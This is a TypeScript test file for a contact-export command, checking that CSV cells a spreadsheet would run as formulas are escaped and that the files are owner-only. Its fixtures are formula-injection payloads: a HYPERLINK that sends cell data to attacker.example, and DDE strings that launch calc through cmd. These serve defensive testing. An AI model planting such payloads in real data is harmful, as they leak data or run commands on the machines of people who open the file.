import { mkdtempSync, readFileSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Kysely } from 'kysely';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { exportMigration } from '../cli/export-migration.ts';
import { openDatabase } from '../database/connect.ts';
import type { Database } from '../database/schema.ts';
import { createSandboxDatabase, type SandboxDatabase } from './support/sandbox-database.ts';

const MIGRATION = 'export-of-hostile-names';
const FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+cmd|calc', '-2+3', '\tfake', '\r=1'];

describe('channelshift export, of names and lines customers control', () => {
  let database: SandboxDatabase;
  let db: Kysely<Database>;

  beforeAll(async () => {
    database = await createSandboxDatabase(inject('databaseUrl'));
    db = await openDatabase({ kind: 'postgres', url: database.url });
    const people = [...FORMULAS, 'Anna Müller'].map((name, i) => ({ e164: `+4477009003${String(i).padStart(2, '0')}`, name }));
    await db
      .insertInto('contacts')
      .values(people.map(({ e164, name }) => ({ migration_id: MIGRATION, e164, name, country: 'GB', line_type: 'mobile', channels: ['viber'], last_interaction_at: null, viber_user_id: null, source_rows: 1 })))
      .execute();
    await db.insertInto('quarantined_rows').values({ migration_id: MIGRATION, source: 'crm', file: 'crm.csv', file_line: 7, reason: 'unbalanced quote', content: '=cmd|" /C calc"!A0' }).execute();
  });
  afterAll(async () => {
    await db.destroy();
    await database.drop();
  });

  it('writes every cell a spreadsheet would run as a formula so that it shows it as text, and numbers as they are', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'export-')), 'contacts.csv');
    const { rejectedFile } = await exportMigration(db, MIGRATION, file);

    const contacts: string[][] = parse(readFileSync(file), { from_line: 2 });
    expect(contacts.map((row) => row[1])).toEqual([...FORMULAS.map((formula) => `'${formula}`), 'Anna Müller']);
    expect(contacts.every((row) => /^\+4477009003\d\d$/.test(row[0]!))).toBe(true);
    const rejected: string[][] = parse(readFileSync(rejectedFile), { from_line: 2 });
    expect(rejected.map((row) => row[6])).toEqual(['\'=cmd|" /C calc"!A0']);
  });

  it('writes files only their owner can read', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'export-')), 'contacts.csv');
    const { rejectedFile } = await exportMigration(db, MIGRATION, file);
    expect([statSync(file).mode & 0o777, statSync(rejectedFile).mode & 0o777]).toEqual([0o600, 0o600]);
  });
});
